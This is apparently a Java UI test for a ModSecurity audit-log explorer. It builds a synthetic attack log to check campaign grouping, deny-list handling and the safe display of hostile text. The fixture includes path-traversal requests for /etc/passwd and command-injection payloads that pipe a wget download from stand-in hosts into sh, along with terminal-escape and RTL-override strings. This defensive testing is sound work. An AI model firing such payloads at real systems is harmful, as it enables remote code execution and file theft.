package org.modsecexplorer.ui.campaign;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import javafx.scene.control.Labeled;
import javafx.scene.control.TableView;
import javafx.scene.input.KeyCode;
import org.junit.jupiter.api.Test;
import org.modsecexplorer.advise.campaign.Campaign;
import org.modsecexplorer.cli.AttackLog;
import org.modsecexplorer.ui.frame.PageCase;

/** The page with campaigns: the list, why clients are one, and the ways to their requests and to the deny list. */
class CampaignPageTest extends PageCase {

    private static final int ENTRIES = 110;

    /** Sixty unrelated scanners, a campaign of thirty addresses of which one got through, and one of twenty with a hostile text. */
    @Override
    protected Path write(Path folder) {
        AttackLog log = new AttackLog();
        for (int i = 0; i < 60; i++) {
            log.entry("198.51.100." + i, 1 + i / 6, i % 6 * 200, "/own" + i + ".php", "curl/8." + i, 403, "930120 ARGS:f /own/" + i + "/../../etc/passwd");
        }
        for (int i = 0; i < 30; i++) {
            log.entry("203.0.113." + i, 9, 60 + i, "/cgi-bin/test.cgi?cmd=x", "Mozilla/5.0", i == 7 ? 200 : 403, "932100 ARGS:cmd ;wget http://loader.example.net/arm7.sh|sh");
        }
        for (int i = 0; i < 20; i++) {
            log.entry("192.0.2." + i, 14, 300 + i, "/<b>" + "long".repeat(60), "x\\x1b[2J<b>", 403, "932100 ARGS:q \\u202e<b>;wget http://evil.example.org/" + "9".repeat(200) + "|sh");
        }
        try {
            return Files.writeString(folder.resolve("audit.log"), log.text());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void open() {
        waitForEntries(ENTRIES);
        robot.push(KeyCode.CONTROL, KeyCode.DIGIT5);
        waitForCampaigns();
    }

    private void waitForCampaigns() {
        waitUntil(() -> models().campaigns().page().answerProperty().get() != null && !models().campaigns().page().askingProperty().get() && models().jobs().isIdle());
    }

    private TableView<Campaign> campaigns() {
        return find("#campaign-table");
    }

    @Test
    void campaignsAreListedWithTheirReasons() {
        open();
        assertThat(onWindow(() -> campaigns().getItems().stream().map(campaign -> campaign.clients().size()).toList())).containsExactlyInAnyOrder(30, 20);
        robot.interact(() -> campaigns().getSelectionModel().select(campaigns().getItems().stream().filter(each -> each.clients().size() == 30).findFirst().orElseThrow()));
        assertThat(text("#campaign-title")).isEqualTo("30 clients, 30 requests");
        assertThat(text("#campaign-succeeded")).isEqualTo("1 attack was not blocked and was answered with 2xx.");
        List<String> why = onWindow(() -> find("#campaign-why").lookupAll(".label").stream().map(label -> ((Labeled) label).getText()).toList());
        assertThat(why).contains("The payload “;wget http://loader.example.net/arm7.sh|sh”").anyMatch(line -> line.startsWith("30 clients from 2026-11-09 01:00 to 2026-11-09 01:29. Others with it: 0."));
        draw("campaigns-light");
        robot.clickOn("#theme");
        draw("campaigns-dark");
        robot.interact(() -> {
            stage.setWidth(1024);
            stage.setHeight(640);
        });
        draw("campaigns-small");
    }

    @Test
    void enterShowsTheRequestsAndTheButtonTheDenyList() {
        open();
        robot.interact(() -> {
            campaigns().getSelectionModel().select(campaigns().getItems().stream().filter(each -> each.clients().size() == 30).findFirst().orElseThrow());
            campaigns().requestFocus();
        });
        robot.push(KeyCode.ENTER);
        waitForEntries(30);
        assertThat(onWindow(() -> models().question().filter().text())).contains("ip:203.0.113.", "since:", "until:");
        robot.push(KeyCode.CONTROL, KeyCode.DIGIT5);
        waitForCampaigns();
        robot.clickOn("#campaign-deny");
        // one was never blocked; the others are held back, as addresses for documentation are no public ones
        waitUntil(() -> models().jobs().isIdle() && ((Labeled) find("#deny-show-held")).getText().contains("29"));
    }

    @Test
    void withoutCampaignsThePageSaysSo() {
        open();
        robot.interact(() -> models().question().type("ip:198.51.100.0/24"));
        waitUntil(() -> models().campaigns().page().answerProperty().get().isEmpty() && !models().campaigns().page().askingProperty().get());
        assertThat(text("#campaign-nothing-title")).isEqualTo("No campaign under this filter");
        draw("campaigns-empty");
    }

    @Test
    void hostileTextsStayTextInRussianToo() {
        open();
        robot.interact(() -> campaigns().getSelectionModel().select(campaigns().getItems().stream().filter(each -> each.clients().size() == 20).findFirst().orElseThrow()));
        draw("campaigns-hostile");
        robot.interact(() -> changeLanguage(Locale.of("ru")));
        waitForCampaigns();
        draw("campaigns-russian");
        robot.interact(() -> changeLanguage(Locale.ENGLISH));
    }
}
